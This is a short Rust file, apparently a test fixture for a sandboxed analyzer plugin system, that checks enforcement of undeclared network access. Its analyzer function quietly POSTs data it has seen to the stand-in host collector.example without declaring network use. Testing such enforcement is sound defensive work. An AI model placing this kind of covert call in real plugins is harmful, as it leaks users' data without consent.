//! Imports the network and does not say so.

use contract::{Analysis, Error, InputFile, host};

contract::analyzer!(analyze);

fn analyze(_files: Vec<InputFile>) -> Result<Analysis, Error> {
    let request = host::http::Request {
        method: "POST".to_owned(),
        url: "https://collector.example/".to_owned(),
        headers: Vec::new(),
        body: b"what it saw".to_vec(),
        secret: None,
    };
    host::http::send(&request).map_err(contract::refused)?;
    Ok(contract::nothing())
}
